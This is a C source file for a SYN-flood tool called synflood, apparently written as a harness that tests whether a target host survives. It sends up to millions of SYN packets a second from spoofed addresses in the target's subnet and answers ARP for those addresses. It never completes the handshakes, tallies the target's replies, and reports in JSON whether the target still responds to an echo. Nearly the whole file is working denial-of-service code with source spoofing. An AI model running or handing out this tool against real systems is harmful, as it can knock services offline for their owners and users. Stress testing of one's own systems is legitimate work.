/* synflood.c: half-open connections from addresses that nobody has: SYNs, with ARP
 * answered for their sources, and no third segment ever.  One JSON line at the end.
 */
#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "libpacket.h"

#define SECOND INT64_C(1000000000)

static struct {
	uint64_t sent, synacks, resets, bad_acks;
} counts;

/* The n-th SYN's initial sequence number: what the answer must acknowledge. */
static uint32_t isn(uint32_t address, uint16_t port)
{
	return (address * 2654435761u) ^ (uint32_t)port << 16 ^ port;
}

static void take(struct mir_raw *r, const uint8_t *frame, size_t n)
{
	const uint8_t *tcp = mir_frame_tcp(frame, n);

	if (!tcp || mir_get32(frame + 26) != r->to || mir_get16(tcp) != r->port ||
	    mir_get32(frame + 30) - r->from >= r->sources)
		return;
	if (tcp[13] & MIR_RST)
		counts.resets++;
	else if ((tcp[13] & (MIR_SYN | MIR_ACK)) == (MIR_SYN | MIR_ACK))
		counts.synacks++;
	if (mir_get32(tcp + 8) != isn(mir_get32(frame + 30), (uint16_t)mir_get16(tcp + 2)) + 1)
		counts.bad_acks++;
}

static void drain(struct mir_raw *r, int64_t until)
{
	uint8_t frame[MIR_PACKET_MAX];
	size_t n;

	while ((n = mir_raw_receive(r, frame, until)))
		take(r, frame, n);
}

static void send_syn(struct mir_raw *r, uint64_t i)
{
	static const uint8_t mss[] = { 2, 4, 0x05, 0xb4 };
	struct mir_raw source = *r;
	struct mir_packet p;
	uint16_t port = (uint16_t)(1024 + i / r->sources % 64000);

	source.from = r->from + (uint32_t)(i % r->sources);
	mir_packet_tcp(&p, &source, port, MIR_SYN, isn(source.from, port), 0);
	mir_packet_tcp_options(&p, mss, sizeof mss);
	mir_packet_close(&p);
	counts.sent += mir_raw_send(r, p.data, p.len);
}

int main(int argc, char **argv)
{
	uint64_t port = 0, count = 100000, sources = 200, rate = 50000, wait_s = 1;
	const char *device = NULL, *from = NULL, *to = NULL;
	const struct mir_option options[] = { { "dev", MIR_OPT_STRING, &device, "device" },
		{ "from", MIR_OPT_STRING, &from, "first source address, of the target's subnet" },
		{ "sources", MIR_OPT_NUMBER, &sources, "how many from there on" },
		{ "to", MIR_OPT_STRING, &to, "address" }, { "port", MIR_OPT_NUMBER, &port, "port" },
		{ "count", MIR_OPT_NUMBER, &count, "SYNs" },
		{ "rate", MIR_OPT_NUMBER, &rate, "SYNs a second" },
		{ "wait", MIR_OPT_NUMBER, &wait_s, "seconds for the last answers" }, { 0 } };
	struct mir_raw r = { 0 };
	int64_t start;
	bool alive;

	mir_options(argc, argv,
	    "usage: synflood --dev DEVICE --from IP --to IP --port PORT [option ...]\n"
	    "Half-open connections; status 1 if the target does not answer an echo afterwards.",
	    options);
	r.from = mir_ip4(from);
	r.to = mir_ip4(to);
	r.port = (uint16_t)port;
	r.sources = (uint32_t)sources;
	if (sources == 0 || sources > 65536 || rate == 0 || rate > 10000000)
		mir_usage("synflood", "1 to 65536 sources, a rate of 1 to 10000000");
	mir_raw_open(&r, device);
	start = mir_now_ns();
	for (uint64_t i = 0; i < count; i++) {
		send_syn(&r, i);
		if (i % 32 == 31)
			drain(&r, start + (int64_t)((double)i / (double)rate * 1e9));
	}
	drain(&r, mir_now_ns() + (int64_t)wait_s * SECOND);
	alive = mir_raw_alive(&r);
	printf("{\"sent\":%" PRIu64 ",\"synacks\":%" PRIu64 ",\"resets\":%" PRIu64
	       ",\"bad_acks\":%" PRIu64 ",\"seconds\":%.3f,\"alive\":%s}\n",
	    counts.sent, counts.synacks, counts.resets, counts.bad_acks,
	    (double)(mir_now_ns() - start) / 1e9, alive ? "true" : "false");
	return !alive;
}
